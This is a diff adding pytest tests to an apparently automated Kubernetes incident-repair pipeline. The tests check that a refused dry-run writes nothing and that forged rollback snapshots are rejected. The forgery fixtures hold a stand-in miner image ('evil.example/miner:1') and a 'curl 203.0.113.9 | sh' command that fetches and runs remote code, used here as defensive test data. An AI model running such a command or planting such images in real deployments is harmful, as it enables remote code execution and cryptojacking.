@@ -9,6 +9,7 @@ change is overwritten.
 from __future__ import annotations
 
 import copy
+import inspect
 import math
 from datetime import UTC, datetime
 
@@ -862,6 +863,83 @@ def test_a_proposal_for_another_deployment_is_refused(ctx):
     forge(ctx, iid, lambda s: s.proposal.manifest["metadata"].update(name="payments"))
     state = run(ctx, iid)
     assert ctx.kube.writes == [] and "is not the Deployment shop/web" in state.error
+
+
+def test_the_server_dry_run_is_asked_again_at_apply_and_its_refusal_writes_nothing(ctx):
+    """patch dry-ran the fix; the API server refuses it by the time apply re-checks it."""
+    iid = open_incident(ctx)
+    real, calls = ctx.kube.dry_run_apply, []
+
+    def dry_run(manifest):
+        calls.append(inspect.stack()[1].function)
+        if calls[-1] == "recheck":  # apply's, not patch's own
+            raise PermanentError("kubernetes", "admission webhook denied the request")
+        return real(manifest)
+
+    ctx.kube.dry_run_apply = dry_run
+    state = run(ctx, iid)
+    assert calls[-1] == "recheck", calls
+    assert ctx.kube.writes == []
+    assert "server-side dry-run refused it: admission webhook denied" in state.error
+    assert [d[0] for d in ctx.phone.dialled] == ["+15550000001"]
+
+
+def forge_snapshot_after_apply(ctx, monkeypatch, edit) -> None:
+    """Once the fix is live, rewrite its rollback snapshot as someone who reaches Redis
+    could; the fix then fails to verify, so the rollback reads the forged original."""
+    ctx.settings.verify_deadline_s = 0.0
+    ctx.kube.healthy = False
+    real_verify = pipeline.verify
+
+    def verify(c, state):
+        key = ctx.store.key("snapshot", state.incident.id)
+        snap = ctx.store.snapshot(state.incident.id)
+        if snap is not None and not getattr(verify, "done", False):
+            verify.done = True
+            edit(snap.manifest)
+            ctx.redis.set(key, snap.model_dump_json())
+        return real_verify(c, state)
+
+    monkeypatch.setattr(pipeline, "verify", verify)
+
+
+@pytest.mark.parametrize(
+    ("edit", "expected"),
+    [
+        (
+            lambda m: container(m).update(image="evil.example/miner:1"),
+            "pod template is none of the Deployment's revisions",
+        ),
+        (
+            lambda m: container(m).update(command=["sh", "-c", "curl 203.0.113.9 | sh"]),
+            "pod template is none of the Deployment's revisions",
+        ),
+        (
+            lambda m: m["metadata"].update(namespace="kube-system"),
+            "is not the Deployment shop/web",
+        ),
+        (lambda m: m["metadata"].update(name="payments"), "is not the Deployment shop/web"),
+    ],
+    ids=["another-image", "a-command", "another-namespace", "another-deployment"],
+)
+def test_a_forged_rollback_snapshot_is_never_written_back(ctx, monkeypatch, edit, expected):
+    iid = open_incident(ctx)
+    forge_snapshot_after_apply(ctx, monkeypatch, edit)
+    state = run(ctx, iid)
+    assert [w["op"] for w in ctx.kube.writes] == ["apply"]  # the fix; no restore
+    assert state.verification is not None and not state.verification.rolled_back
+    assert "not rolled back" in state.verification.reason
+    assert expected in state.verification.reason
+    assert [d[0] for d in ctx.phone.dialled] == ["+15550000001"]
+
+
+def test_a_true_snapshot_is_still_written_back(ctx, monkeypatch):
+    iid = open_incident(ctx)
+    forge_snapshot_after_apply(ctx, monkeypatch, lambda m: None)  # rewritten as it was
+    state = run(ctx, iid)
+    assert [w["op"] for w in ctx.kube.writes] == ["apply", "restore"]
+    assert state.verification.rolled_back
+    assert container(ctx.kube.live)["image"] == BAD
 
 
 # -- the phone: only configured numbers, only aifixer's words, a budget -----------------------
